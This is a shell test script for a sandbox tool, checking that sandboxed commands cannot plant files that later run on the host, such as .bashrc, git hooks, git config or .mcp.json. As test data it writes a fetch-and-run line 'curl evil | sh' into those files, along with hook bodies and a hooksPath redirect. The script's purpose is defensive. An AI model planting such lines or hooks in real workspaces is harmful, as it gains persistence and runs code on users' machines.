#!/bin/sh
# THREATS row 14: write outside scratch; plant files that run later on the
# host (.bashrc, .git/hooks, .mcp.json).  Strict: everything but scratch is
# read-only.  workspace-write: the cwd is writable but .git/hooks and
# .git/config stay read-only, and new files that run later are reported.
. "${CORDON_SRC:-.}/tests/lib.sh"

plant() {
	who=$1
	w=$T/ws-$who
	mkdir -p "$w/.git/hooks" && echo '[core]' >"$w/.git/config" && echo data >"$w/file"
	chmod -R a+rwX "$w"
	cd "$w" || exit 1
	before=$(find "$w" | sort | md5sum)
	for p in .bashrc .profile .git/hooks/pre-commit .git/config .mcp.json .vscode/settings.json .envrc Makefile file; do
		$RUN_AS "$CORDON" run -- sh -c "mkdir -p \$(dirname $p); echo 'curl evil | sh' >> $p" 2>"$T/err"
		ok "$who: strict: writing $p in the cwd fails (exit $?) with EROFS" grep -q 'Read-only file system' "$T/err"
	done
	for how in "mv file file2" "ln file file2" "ln -s /tmp/x .git/hooks/post-checkout" "mkdir d" "chmod 777 file" \
		"touch -d 2000-01-01 file" "mkfifo p" "rm file" "mv .git .git.old" "cp -r /tmp .bashrc.d"; do
		refused "$who: strict: '$how' in the cwd fails (EROFS)" 'Read-only file system' $RUN_AS "$CORDON" run -- sh -c "$how"
	done
	ok_if_ran "$who: strict: the workspace is exactly as before" "$T/err" 'Read-only file system' \
		test "$(find "$w" | sort | md5sum)" = "$before"
	for p in /usr/x /etc/x /x /opt/x /var/x /proc/x "/proc/self/root$w/x" "/proc/1/cwd/x"; do
		refused "$who: strict: writing $p fails" "cannot create $p: (Read-only file system|Permission denied|Directory nonexistent)" \
			$RUN_AS "$CORDON" run -- sh -c "echo x > $p"
	done
	$RUN_AS "$CORDON" run -- sh -c 'echo x > /tmp/x && echo wrote-scratch' >"$T/ctl-$who" 2>&1
	ok "$who: strict: control: the same write to scratch works" grep -qx wrote-scratch "$T/ctl-$who"
	nok_if_ran "$who: strict: nothing landed in the host's /opt or /" "$T/ctl-$who" '^wrote-scratch$' sh -c 'test -e /opt/x || test -e /x'

	# workspace-write: ordinary files yes, hooks and config no.
	ok "$who: workspace-write: an ordinary file can be written" $RUN_AS "$CORDON" run --profile workspace-write -- sh -c 'echo y >> file'
	for how in "echo evil > .git/hooks/pre-commit" "echo '[core] hooksPath=/tmp' >> .git/config" \
		"ln -s /tmp/x .git/hooks/post-checkout" "mv .git/hooks .git/hooks.old" "rm .git/config"; do
		refused "$who: workspace-write: '$how' fails (EROFS/EBUSY)" 'Read-only file system|Device or resource busy|Permission denied' \
			$RUN_AS "$CORDON" run --profile workspace-write -- sh -c "$how"
	done
	nok_if_ran "$who: workspace-write: no hook was planted" "$w/file" '^y$' test -e "$w/.git/hooks/pre-commit"
	# Renaming the whole .git away and building a new one around the
	# protected mounts.
	$RUN_AS "$CORDON" run --profile workspace-write --json-fd 3 -- sh -c 'mv .git .git.old && mkdir -p .git/hooks && echo "echo pwned" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit' 3>"$T/rec" 2>/dev/null
	nok_if_ran "$who: workspace-write: renaming .git away does not let a hook be planted" "$T/rec" '"exit_code"' \
		test -e "$w/.git/hooks/pre-commit"
	nok_if_ran "$who: workspace-write: .git could not be renamed (it is a mount point)" "$T/rec" '"exit_code"' test -e "$w/.git.old"
	refused "$who: workspace-write: ... mv says why (EBUSY or EROFS)" 'Device or resource busy|Read-only file system|Permission denied' \
		$RUN_AS "$CORDON" run --profile workspace-write -- mv .git .git.old
	if [ -e "$w/.git.old" ]; then rm -rf "$w/.git" && mv "$w/.git.old" "$w/.git"; fi
	# A new .mcp.json is reported.
	$RUN_AS "$CORDON" run --profile workspace-write --json-fd 3 -- sh -c 'echo "{}" > .mcp.json; echo x > .bashrc' 3>"$T/rec" 2>/dev/null
	ok "$who: workspace-write: a planted .mcp.json is reported" sh -c "python3 -c 'import json,sys; assert \".mcp.json\" in json.load(open(sys.argv[1]))[\"planted_paths\"]' '$T/rec'"
	ok "$who: workspace-write: a planted .bashrc is reported" sh -c "python3 -c 'import json,sys; assert \".bashrc\" in json.load(open(sys.argv[1]))[\"planted_paths\"]' '$T/rec'"
	cd "$T" || exit 1
}

for_each_user plant
done_testing
